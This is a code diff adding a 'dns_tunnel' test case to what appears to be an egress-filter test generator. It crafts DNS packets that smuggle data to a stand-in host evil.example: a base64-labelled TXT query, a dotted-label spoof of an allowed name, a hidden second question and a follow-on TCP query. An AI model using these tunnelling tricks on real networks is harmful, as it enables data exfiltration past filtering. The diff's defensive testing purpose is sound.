@@ -314,6 +314,24 @@ def main():
     Conv(p, EVIL, 22, sport=40021).handshake().client_data(b"SSH-2.0-OpenSSH_9.2\r\n")
     cases["dns_provenance"] = p
 
+    # DNS as a tunnel through the allowed resolver (dns.queries: services): a listed name's query
+    # leaves; a query carrying data in a name of the tunnel's own, a label holding a dot (prints
+    # as the listed name, is another), two questions (a listed one hiding a second) and, over TCP,
+    # a tunnel's query after a listed one in the next segment are dropped and their flows denied.
+    p = []
+    header = lambda txid, qd: u16(txid) + u16(0x0100) + u16(qd) + u16(0) + u16(0) + u16(0)
+    udp(p, CLIENT, RESOLVER, 5400, 53, dns_query("files.partner.example", txid=0x5001))
+    udp(p, CLIENT, RESOLVER, 5401, 53, dns_query("tunnel-c2VjcmV0.t.evil.example", txid=0x5002, qtype=16))
+    udp(p, CLIENT, RESOLVER, 5402, 53, header(0x5003, 1) + bytes([18]) + b"files.partner.example" +
+        b"\x00" + u16(1) + u16(1))
+    udp(p, CLIENT, RESOLVER, 5403, 53, header(0x5004, 2) + dns_name("files.partner.example") +
+        u16(1) + u16(1) + dns_name("twoq-secret.evil.example") + u16(1) + u16(1))
+    listed = dns_query("files.partner.example", txid=0x5005)
+    hidden = dns_query("tcp-secret.evil.example", txid=0x5006)
+    Conv(p, RESOLVER, 53, sport=40050).handshake().client_data(u16(len(listed)) + listed) \
+        .client_data(u16(len(hidden)) + hidden)
+    cases["dns_tunnel"] = p
+
     p = []
     initial = bytes([0xc3, 0, 0, 0, 1, 8]) + bytes(8) + bytes([0, 0, 0x44, 0x9c]) + bytes(1180)
     udp(p, CLIENT, M365, 50000, 443, initial)
